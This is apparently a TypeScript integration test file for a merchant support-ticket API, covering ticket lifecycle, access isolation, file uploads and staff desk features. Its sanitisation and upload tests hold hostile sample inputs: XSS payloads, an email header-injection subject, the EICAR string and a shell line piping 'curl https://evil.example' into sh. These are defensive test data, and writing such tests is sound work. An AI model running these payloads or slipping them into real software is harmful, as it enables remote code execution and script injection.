import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { execute, one, select } from '../../../../db/core/sql.ts';
import type { TestMerchant } from '../../../../db/testing.fixture.ts';
import { newId } from '../../../../domain/ids.ts';
import { addColleague, signInAs } from '../../../testing/accounts.fixture.ts';
import { startTestApi, type TestAnswer, type TestApi, type TestCall } from '../../../testing/server.fixture.ts';
import { signInStaff } from '../../../testing/staff.fixture.ts';

type Browser = (call: TestCall) => Promise<TestAnswer>;

let api: TestApi;
let shop: TestMerchant;
let owner: Browser;
let desk: Awaited<ReturnType<typeof signInStaff>>;

beforeAll(async () => {
  api = await startTestApi({ env: { RATE_LIMIT_SIGN_IN_PER_MINUTE: '100' } });
  shop = await api.merchant();
  owner = await api.signIn(shop);
  desk = await signInStaff(api, 'manager');
});
beforeEach(() => execute(api.db, 'DELETE FROM lockout', []));
afterAll(() => api.close());

const written = (more: object = {}) => ({
  message_id: newId(),
  subject: 'Where is my payout?',
  text: 'It was sent an hour ago.',
  ...more,
});
const open = async (more: object = {}, by: Browser = owner) => {
  const { status, json } = await by({ url: '/spa/tickets', body: written(more) });
  expect(status, JSON.stringify(json)).toBe(201);
  return json.data;
};
const answer = (id: string, seen: number, more: object = {}) =>
  desk.as({ url: `/staff/tickets/${id}/answer`, body: { message_id: newId(), seen, text: 'It is there.', ...more } });
const PDF = '%PDF-1.7 a receipt';
const upload = (name: string, body: string, type = 'application/pdf', by: Browser = owner) =>
  by({ url: `/spa/ticket-files?file_name=${encodeURIComponent(name)}`, body, headers: { 'content-type': type } });

describe('a ticket', () => {
  test('is written, answered, replied to, closed and rated', async () => {
    const ticket = await open();
    expect(ticket).toMatchObject({ status: 'open', may_reply: true, may_rate: false, about: null });
    const answered = await answer(ticket.id, 1);
    expect(answered.json.data).toMatchObject({ status: 'answered', answer_due_at: null, assignee: expect.any(String) });
    const seen = (await owner({ url: `/spa/tickets/${ticket.id}` })).json.data;
    expect(
      seen.messages.map(({ from, by, text }: { from: string; by: string; text: string }) => [from, by, text]),
    ).toEqual([
      ['customer', 'Test Merchant', 'It was sent an hour ago.'],
      ['support', null, 'It is there.'],
    ]);
    const reply = { message_id: newId(), text: 'Thank you' };
    const replied = await owner({ url: `/spa/tickets/${ticket.id}/reply`, body: reply });
    expect(replied.json.data.status).toBe('open');
    await answer(ticket.id, 3);
    const closed = await owner({ url: `/spa/tickets/${ticket.id}/close`, body: {} });
    expect(closed.json.data).toMatchObject({ status: 'closed', may_rate: true });
    const rated = await owner({ url: `/spa/tickets/${ticket.id}/rating`, body: { rating: 'good' } });
    expect(rated.json.data).toMatchObject({ rating: 'good', may_rate: false });
    expect((await owner({ url: `/spa/tickets/${ticket.id}/rating`, body: { rating: 'bad' } })).status).toBe(409);
    const log = (await owner({ url: '/spa/audit?per_page=100' })).json.data;
    const own = log.filter(({ target_id }: { target_id: string | null }) => target_id === ticket.id);
    expect(own.map(({ action }: { action: string }) => action)).toEqual(['ticket.closed', 'ticket.opened']);
  });

  test('that is sent twice is one, and so are its replies and answers', async () => {
    const body = written();
    const [first, second] = await Promise.all([
      owner({ url: '/spa/tickets', body }),
      owner({ url: '/spa/tickets', body }),
    ]);
    expect(second.json.data.id).toBe(first.json.data.id);
    const { id } = first.json.data;
    const reply = { message_id: newId(), text: 'More' };
    for (let at = 0; at < 2; at += 1) await owner({ url: `/spa/tickets/${id}/reply`, body: reply });
    const answered = { message_id: newId(), seen: 2, text: 'Yes' };
    for (let at = 0; at < 2; at += 1) await desk.as({ url: `/staff/tickets/${id}/answer`, body: answered });
    const { messages } = (await owner({ url: `/spa/tickets/${id}` })).json.data;
    expect(messages.map(({ text }: { text: string }) => text)).toEqual(['It was sent an hour ago.', 'More', 'Yes']);
    const sent = await select<{ kind: string }>(
      api.db,
      "SELECT payload ->> 'kind' AS kind FROM outbox WHERE topic = 'mail.ticket' AND payload ->> 'ticketId' = $1 ORDER BY id",
      [id],
    );
    expect(sent.map(({ kind }) => kind)).toEqual(['received', 'received', 'answered']);
  });

  test('is not found by another merchant, a colleague, or with an id of another message', async () => {
    const ticket = await open();
    const stranger = await api.signIn(await api.merchant());
    const colleague = await signInAs(api, await addColleague(api, shop, 'viewer'));
    for (const other of [stranger, colleague]) {
      expect((await other({ url: `/spa/tickets/${ticket.id}` })).status).toBe(404);
      const reply = { message_id: newId(), text: 'Send it to me' };
      expect((await other({ url: `/spa/tickets/${ticket.id}/reply`, body: reply })).status).toBe(404);
      expect((await other({ url: `/spa/tickets/${ticket.id}/close`, body: {} })).status).toBe(404);
      expect((await other({ url: '/spa/tickets' })).json.data).toEqual([]);
      const stolen = written({ message_id: ticket.messages[0].id });
      expect((await other({ url: '/spa/tickets', body: stolen })).status).toBe(409);
    }
    const own = await open({}, colleague);
    expect((await owner({ url: `/spa/tickets/${own.id}` })).status).toBe(200);
  });

  test('is about an object of the merchant, or is refused', async () => {
    const invoice = await api.call({
      url: '/api/v1/invoices',
      as: shop.token,
      body: { amount: '49.90', currency: 'EUR', gate_id: 'BTC', reference: 'A-17' },
    });
    const about = { kind: 'invoice', id: invoice.json.data.id };
    const ticket = await open({ about });
    expect(ticket.about).toEqual({ ...about, mode: 'sandbox', reference: 'A-17' });
    const seen = (await desk.as({ url: `/staff/tickets/${ticket.id}` })).json.data;
    expect(seen.about.steps.map(({ type }: { type: string }) => type)).toContain('invoice.pending');
    const stranger = await api.signIn(await api.merchant());
    expect((await stranger({ url: '/spa/tickets', body: written({ about }) })).status).toBe(404);
    const other = written({ about: { kind: 'payout', id: about.id } });
    expect((await owner({ url: '/spa/tickets', body: other })).status).toBe(404);
  });

  test('reopens within 14 days after it was closed, and not later', async () => {
    const { id } = await open();
    const reply = () => owner({ url: `/spa/tickets/${id}/reply`, body: { message_id: newId(), text: 'Again' } });
    await desk.as({ url: `/staff/tickets/${id}/close`, body: {} });
    expect((await reply()).json.data.status).toBe('open');
    await desk.as({ url: `/staff/tickets/${id}/close`, body: {} });
    await execute(api.db, "UPDATE ticket SET closed_at = now() - interval '15 days' WHERE id = $1", [id]);
    const late = await reply();
    expect([late.status, late.json.message]).toEqual([
      409,
      'This ticket was closed a while ago. Please write a new one.',
    ]);
  });

  test('a person writes ten an hour', async () => {
    for (let at = 0; at < 10; at += 1) await open();
    expect((await owner({ url: '/spa/tickets', body: written() })).status).toBe(429);
  });

  test('is text: markup and hidden characters are kept as what they are, or removed', async () => {
    const text = '<img src=x onerror=alert(1)>\u202E hello';
    const { id, messages, subject } = await open({ text, subject: 'See evil.example\r\nBcc: all@evil.example' });
    expect(messages[0].text).toBe('<img src=x onerror=alert(1)> hello');
    expect(subject).not.toMatch(/evil\.example|[\r\n]/);
    expect((await owner({ url: '/spa/tickets', body: written({ text: ' \n ' }) })).status).toBe(422);
    expect(id).toBeDefined();
  });
});

describe('files', () => {
  test('are sent with a message and downloaded by both sides, as nothing that a browser runs', async () => {
    const file = (await upload('receipt <1>.pdf', PDF)).json.data;
    const ticket = await open({ files: [file.id] });
    expect(ticket.messages[0].files).toEqual([file]);
    for (const by of [owner, desk.as]) {
      const url =
        by === owner ? `/spa/tickets/${ticket.id}/files/${file.id}` : `/staff/tickets/${ticket.id}/files/${file.id}`;
      const got = await by({ url });
      expect([got.status, got.text]).toEqual([200, PDF]);
      expect(got.headers).toMatchObject({
        'content-type': 'application/octet-stream',
        'x-content-type-options': 'nosniff',
        'content-disposition': expect.stringMatching(/^attachment; filename="receipt__1_.pdf"/),
      });
    }
    const stored = await one<{ content: Buffer }>(api.db, 'SELECT content FROM ticket_attachment WHERE id = $1', [
      file.id,
    ]);
    expect(stored.content.includes('a receipt')).toBe(false);
    const looks = await one<{ count: number }>(
      api.db,
      "SELECT count(*)::int AS count FROM person_look WHERE kind = 'ticket' AND subject_id = $1",
      [ticket.id],
    );
    expect(looks.count).toBe(1);
  });

  test('are nobody else’s, and of one message only', async () => {
    const file = (await upload('a.pdf', PDF)).json.data;
    const stranger = await api.signIn(await api.merchant());
    expect((await stranger({ url: '/spa/tickets', body: written({ files: [file.id] }) })).status).toBe(409);
    const { id } = await open({ files: [file.id] });
    expect((await owner({ url: '/spa/tickets', body: written({ files: [file.id] }) })).status).toBe(409);
    const other = await open();
    expect((await owner({ url: `/spa/tickets/${other.id}/files/${file.id}` })).status).toBe(404);
    expect((await stranger({ url: `/spa/tickets/${id}/files/${file.id}` })).status).toBe(404);
  });

  test.each([
    ['the test file of virus scanners', 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'],
    ['a program', 'MZ\u0090\u0000'],
    ['a program of Linux', '\u007fELF\u0002\u0001'],
    ['a script', '#!/bin/sh\ncurl https://evil.example | sh'],
    ['a page', '<html><script>alert(1)</script></html>'],
    ['a picture with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['a document with macros, in an archive', 'PK\u0003\u0004 word/vbaProject.bin'],
    ['a page before the head of a PDF', `<script>alert(1)</script>${PDF}`],
  ])('of another kind are refused, whatever their name and type say: %s', async (_, body) => {
    const answered = await upload('harmless.pdf', body);
    expect([answered.status, answered.json.errors]).toEqual([422, { file: ['The file must be a PDF, JPG or PNG.'] }]);
  });

  test('of 50 MB are refused with the limit', async () => {
    const answered = await upload('large.pdf', PDF.padEnd(50_000_000, ' '));
    expect([answered.status, answered.json.message]).toEqual([413, 'The file is larger than 10 MB.']);
  });
});

describe('the desk', () => {
  test('lists what waits by priority and deadline, and notes stay inside', async () => {
    const [first, second] = [await open({ subject: 'First of two' }), await open({ subject: 'Second of two' })];
    await desk.as({ url: `/staff/tickets/${second.id}/priority`, body: { priority: 'urgent' } });
    const note = { message_id: newId(), seen: 1, text: 'Known as a careful payer' };
    await desk.as({ url: `/staff/tickets/${second.id}/note`, body: note });
    const { data } = (await desk.as({ url: '/staff/tickets?search=of%20two&status=open' })).json;
    expect(data.map(({ id }: { id: string }) => id)).toEqual([second.id, first.id]);
    // The database stores the row a moment after the person asked.
    const promisedMs = Date.parse(data[0].answer_due_at) - Date.parse(data[0].created_at);
    expect(Math.round(promisedMs / 60_000)).toBe(24 * 60);
    const seen = (await owner({ url: `/spa/tickets/${second.id}` })).text;
    expect(seen).not.toContain('careful payer');
    expect((await desk.as({ url: `/staff/tickets/${second.id}` })).text).toContain('careful payer');
  });

  test('answers nothing that has changed meanwhile, and no spam', async () => {
    const { id } = await open();
    await owner({ url: `/spa/tickets/${id}/reply`, body: { message_id: newId(), text: 'Wait' } });
    expect((await answer(id, 1)).status).toBe(409);
    await desk.as({ url: `/staff/tickets/${id}/spam`, body: { spam: true } });
    expect((await answer(id, 2)).status).toBe(409);
    await desk.as({ url: `/staff/tickets/${id}/spam`, body: { spam: false } });
    expect((await answer(id, 2, { needs_customer: true })).json.data.status).toBe('waiting');
  });

  test('gives tickets to those who may answer them', async () => {
    const { id } = await open();
    const officer = await signInStaff(api, 'compliance_officer');
    const representative = await signInStaff(api, 'representative');
    const assign = (assignee_id: string | null, by = desk) =>
      by.as({ url: `/staff/tickets/${id}/assign`, body: { assignee_id } });
    expect((await assign(officer.member.id)).json.data.assignee_id).toBe(officer.member.id);
    expect((await assign(representative.member.id)).status).toBe(409);
    expect((await assign(null, representative)).status).toBe(403);
    const mine = (await officer.as({ url: '/staff/tickets?mine=yes' })).json.data;
    expect(mine.map((line: { id: string }) => line.id)).toEqual([id]);
  });

  test('saves answers, changes and deletes them, each on the record', async () => {
    const id = newId();
    const title = `Payout times ${id.slice(-4)}`;
    const save = (of: string, body: object) => desk.as({ method: 'PUT', url: `/staff/saved-answers/${of}`, body });
    await save(id, { title, text: 'One hour.' });
    // Sent twice, it is saved once.
    expect((await save(id, { title, text: 'One hour.' })).status).toBe(200);
    const changed = await save(id, { title, text: 'Two hours.', version: 1 });
    expect(changed.json.data).toContainEqual({
      id,
      title,
      text: 'Two hours.',
      version: 2,
      changed_by: desk.member.fullName,
      changed_at: expect.any(String),
    });
    expect((await save(newId(), { title, text: 'Another' })).status).toBe(409);
    const left = await desk.as({ method: 'DELETE', url: `/staff/saved-answers/${id}?version=2` });
    expect(left.json.data).not.toContainEqual(expect.objectContaining({ id }));
    expect((await desk.as({ method: 'DELETE', url: `/staff/saved-answers/${id}?version=2` })).status).toBe(404);
    const acts = await select<{ action: string }>(
      api.db,
      'SELECT action FROM audit_log WHERE target_id = $1 ORDER BY seq',
      [id],
    );
    expect(acts.map(({ action }) => action)).toEqual([
      'ticket.answer_saved',
      'ticket.answer_changed',
      'ticket.answer_deleted',
    ]);
  });

  test('overwrites and deletes no saved answer that somebody else has changed, and lets nobody else change any', async () => {
    const id = newId();
    const [title, url] = [`Fees ${id.slice(-6)}`, `/staff/saved-answers/${id}`];
    const colleague = await signInStaff(api, 'compliance_officer');
    await desk.as({ method: 'PUT', url, body: { title, text: 'Half a percent.' } });
    const both = await Promise.all(
      [desk, colleague].map(({ as }, at) =>
        as({ method: 'PUT', url, body: { title, text: `Mine ${at}`, version: 1 } }),
      ),
    );
    expect(both.map(({ status }) => status).sort()).toEqual([200, 409]);
    const [refused] = both.filter(({ status }) => status === 409);
    expect(refused?.json.code).toBe('changed_meanwhile');
    expect((await desk.as({ method: 'DELETE', url: `${url}?version=1` })).json.code).toBe('changed_meanwhile');
    const overseer = await signInStaff(api, 'representative');
    expect((await overseer.as({ method: 'PUT', url, body: { title, text: 'Mine', version: 2 } })).status).toBe(403);
    expect((await overseer.as({ method: 'DELETE', url: `${url}?version=2` })).status).toBe(403);
    expect((await desk.as({ method: 'DELETE', url: `${url}?version=2` })).status).toBe(200);
    // One who still reads it is not the first to save it again.
    expect((await colleague.as({ method: 'PUT', url, body: { title, text: 'Mine', version: 2 } })).json.code).toBe(
      'changed_meanwhile',
    );
  });
});
